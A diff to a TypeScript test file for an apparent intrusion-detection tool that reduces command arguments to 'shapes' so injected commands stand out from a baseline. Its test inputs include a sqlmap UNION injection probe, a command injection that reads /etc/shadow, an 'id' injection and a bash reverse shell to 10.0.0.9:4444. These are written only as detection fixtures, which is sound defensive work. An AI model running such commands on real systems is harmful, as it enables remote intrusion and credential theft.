@@ -15,7 +15,7 @@ import { collectTrace, encodeTrace } from '../src/encode/pipeline.js';
 import { makeVocabulary } from '../src/encode/vocabulary.js';
 import { DEFAULT_WINDOW_NS } from '../src/encode/windows.js';
 import { pathsInDir, readBaselineData } from '../src/engine/baseline-dir.js';
-import { COMMAND_CHARS, commandShape, execArgs } from '../src/trace/command.js';
+import { COMMAND_CHARS, COMMAND_SHAPE, commandShape, execArgs } from '../src/trace/command.js';
 import { NameTable } from '../src/trace/names.js';
 import { TraceParser } from '../src/trace/parse.js';
 import { assertOk, runCli } from './helpers/cli.js';
@@ -25,7 +25,7 @@ import { bufferSource } from './helpers/file-source.js';
 const b64 = (...a: string[]) => Buffer.from(a.map((x) => x + '\0').join('')).toString('base64');
 const DB = ['-json', '-bail', '/srv/app/data/shop.db'];
 const search = (term: string, limit = 20) => `SELECT id, name, price FROM products WHERE name LIKE '%${term}%' ORDER BY name LIMIT ${limit}`;
-const SHAPE = "-json -bail /srv/app/data/shop.db SELECT id, name, price FROM products WHERE name LIKE '' ORDER BY name LIMIT ";
+const SHAPE = "-json -bail <path> SELECT id, name, price FROM products WHERE name LIKE '' ORDER BY name LIMIT ";
 // sqlmap's UNION probe, as the benchmark's sqli recordings hold it.
 const INJECTED = "tea%' UNION ALL SELECT CHAR(113,112,118,106,113)||CHAR(77,104,80)||CHAR(113,122,107,122,113),NULL,NULL-- aLLI";
 
@@ -38,14 +38,46 @@ test('the shape of base64 argv: quoted literals emptied, digits gone, the SQL ou
   // A long argv is cut: one bounded item, whatever the script.
   assert.equal(commandShape(b64('-c', 'echo x; '.repeat(200))).length, COMMAND_CHARS);
   // Not base64 argv: a word that happens to be base64 stays a word.
-  assert.equal(commandShape('abcd'), 'abcd');
+  // (a shell's first argument is its program, kept as it is).
+  assert.equal(commandShape('abcd', '/bin/sh'), 'abcd');
 });
 
 test("the shape of sysdig's '.'-joined argv (spaces inside arguments kept)", () => {
-  assert.equal(commandShape('-c.id.'), '-c.id.');
-  assert.equal(commandShape("-c.ping -c 1 'web-2'."), "-c.ping -c  ''.");
-  assert.equal(commandShape("-c.ping -c 3 'db-11'."), "-c.ping -c  ''.", 'other host and count: same shape');
-  assert.equal(commandShape("-c.ping -c 1 'web-2'; cat /etc/shadow."), "-c.ping -c  ''; cat /etc/shadow.");
+  // `-c`'s code is the program a shell runs: kept; for another program a single word is a value.
+  assert.equal(commandShape('-c.id.', '/bin/sh'), '-c id');
+  assert.equal(commandShape('-c.id.', '/usr/bin/ping'), '-c <word>');
+  assert.equal(commandShape("-c.ping -c 1 'web-2'.", '/bin/sh'), "-c ping -c  ''");
+  assert.equal(commandShape("-c.ping -c 3 'db-11'.", '/bin/sh'), "-c ping -c  ''", 'other host and count: same shape');
+  assert.equal(commandShape("-c.ping -c 1 'web-2'; cat /etc/shadow.", '/bin/sh'), "-c ping -c  ''; cat /etc/shadow");
+  // The dots of a value split it into pieces, which are one run of values: one class.
+  assert.equal(commandShape('/srv/app/uploads/erin/photo.png.', '/usr/bin/sha256sum'), '<path>');
+  assert.equal(commandShape('-c.1.-W.1.127.0.0.1.', '/bin/ping'), commandShape(b64('-c', '1', '-W', '1', 'localhost'), '/bin/ping'), 'sysdig text and base64 argv agree here');
+});
+
+test('version 2: options kept, single values are their class, embedded programs keep their structure', () => {
+  const sha = (p: string) => commandShape(b64(p), '/usr/bin/sha256sum');
+  assert.equal(sha('/srv/app/uploads/erin/photo.png'), '<path>');
+  assert.equal(sha('/srv/app/uploads/bob/cv.pdf'), '<path>', 'another user and file: the same shape');
+  const ping = (host: string) => commandShape(b64('-c', '1', '-W', '1', host), '/bin/ping');
+  assert.equal(ping('localhost'), '-c <word> -W <word>');
+  for (const h of ['127.0.0.2', '::1', 'no-such-host.invalid']) assert.equal(ping(h), ping('localhost'), h);
+  // An option the service never passes changes the shape; so does a value that is code.
+  assert.notEqual(commandShape(b64('-c', '1', '-p', 'ff', 'localhost'), '/bin/ping'), ping('localhost'));
+  assert.equal(ping('127.0.0.1;id'), '-c <word> -W <word> ...;id');
+  // A shell script keeps its structure (version 1's shape of it): the injection is visible.
+  const sh = (script: string) => commandShape(b64('-c', script), '/bin/sh');
+  assert.equal(sh('ping -c 1 -W 1 127.0.0.1'), '-c ping -c  -W  ...');
+  const injected = sh("ping -c 1 -W 1 127.0.0.1; bash -c 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1' &");
+  assert.equal(injected, "-c ping -c  -W  ...; bash -c '' &");
+  assert.notEqual(injected, sh('ping -c 1 -W 1 127.0.0.1'));
+  // An interpreter's script is a program: an uploaded one is not the service's CGI script.
+  assert.equal(commandShape(b64('/srv/app/cgi-bin/status.cgi'), '/bin/sh'), '/srv/app/cgi-bin/status.cgi');
+  assert.notEqual(commandShape(b64('/srv/app/uploads/mallory/thumbnail.cgi'), '/bin/sh'), commandShape(b64('/srv/app/cgi-bin/status.cgi'), '/bin/sh'));
+  assert.equal(commandShape(b64('-u', '/srv/tool.py', '/tmp/in.txt'), '/usr/bin/python3'), '-u /srv/tool.py <path>', 'only the first non-option element is the script');
+  // SQL keeps its structure; the database file is a value.
+  assert.equal(commandShape(b64(...DB, "SELECT a FROM t WHERE b = 'x'"), 'sqlite3'), "-json -bail <path> SELECT a FROM t WHERE b = ''");
+  // Version 1 (baselines trained before) is the whole line's shape, as it was.
+  assert.equal(commandShape(b64('/srv/app/uploads/erin/photo.png'), '/usr/bin/sha256sum', 1), '/srv/app/uploads/erin/photo.png');
 });
 
 /** Parses lines and hands each event to `f` (the event is a flyweight: use it inside). */
@@ -108,7 +140,7 @@ test('improved mode: an injected query is an unseen argument, other search terms
   assert.equal(attacked.length, 1);
   const unseen = attacked[0].unseenArgs ?? [];
   assert.equal(unseen.length, 1);
-  assert.ok(unseen[0].startsWith('sqlite -json -bail /srv/app/data/shop.db SELECT id, name, price FROM products WHERE name LIKE \'\' UNION ALL SELECT CHAR('), unseen[0]);
+  assert.ok(unseen[0].startsWith('sqlite -json -bail <path> SELECT id, name, price FROM products WHERE name LIKE \'\' UNION ALL SELECT CHAR('), unseen[0]);
   assert.ok((attacked[0].av?.[2] ?? 0) > 0, 'uai rises');
   // The enter event still gives the processed filename, which training saw.
   assert.ok(!unseen.includes('/usr/bin/sqlite'));
@@ -132,6 +164,7 @@ test('a baseline records that it reads command shapes; one trained before them k
     const manifestFile = path.join(od, 'manifest.json');
     const manifest = JSON.parse(readFileSync(manifestFile, 'utf8'));
     assert.equal(manifest.encoding.exec_commands, true);
+    assert.equal(manifest.encoding.command_shape, COMMAND_SHAPE);
     const seen: string[] = JSON.parse(readFileSync(path.join(od, 'seen_args.json'), 'utf8'));
     assert.ok(seen.includes(`sqlite ${SHAPE}`), 'the command shape is in the vocabulary');
 
@@ -142,6 +175,24 @@ test('a baseline records that it reads command shapes; one trained before them k
       return out;
     };
     assert.equal((await unseenWith()).length, 1);
+    // The same baseline as the chids before version 2 wrote it (version 1 shapes, no
+    // command_shape): read with version 1, the injection is unseen and normal searches are not.
+    const v1 = (a: string) => (a === `sqlite ${SHAPE}` ? `sqlite ${commandShape(b64(...DB, search('tea')), 'sqlite3', 1)}` : a);
+    delete manifest.encoding.command_shape;
+    writeFileSync(manifestFile, JSON.stringify(manifest));
+    writeFileSync(path.join(od, 'seen_args.json'), JSON.stringify(seen.map(v1)));
+    assert.equal((await unseenWith()).length, 1);
+    {
+      const { vocab } = await readBaselineData(pathsInDir(od));
+      assert.equal(vocab.commandShape, 1);
+      const out: string[] = [];
+      await encodeTrace(bufferSource('t.sc', scTrace([search('kettle')])), vocab, { faithful: false, windowNs: DEFAULT_WINDOW_NS, details: true }, (w) => out.push(...(w.unseenArgs ?? [])));
+      assert.deepEqual(out, [], 'a normal search against version 1 shapes: nothing unseen');
+    }
+    // A version this chids does not know: a one-line error naming the manifest.
+    writeFileSync(manifestFile, JSON.stringify({ ...manifest, encoding: { ...manifest.encoding, command_shape: COMMAND_SHAPE + 1 } }));
+    await assert.rejects(readBaselineData(pathsInDir(od)), /manifest\.json.*command shape version/);
+    writeFileSync(manifestFile, JSON.stringify(manifest));
     // The same baseline as an older chids wrote it (no exec_commands, no command in seen_args):
     // reading the commands against it would make every spawned program unseen.
     delete manifest.encoding.exec_commands;
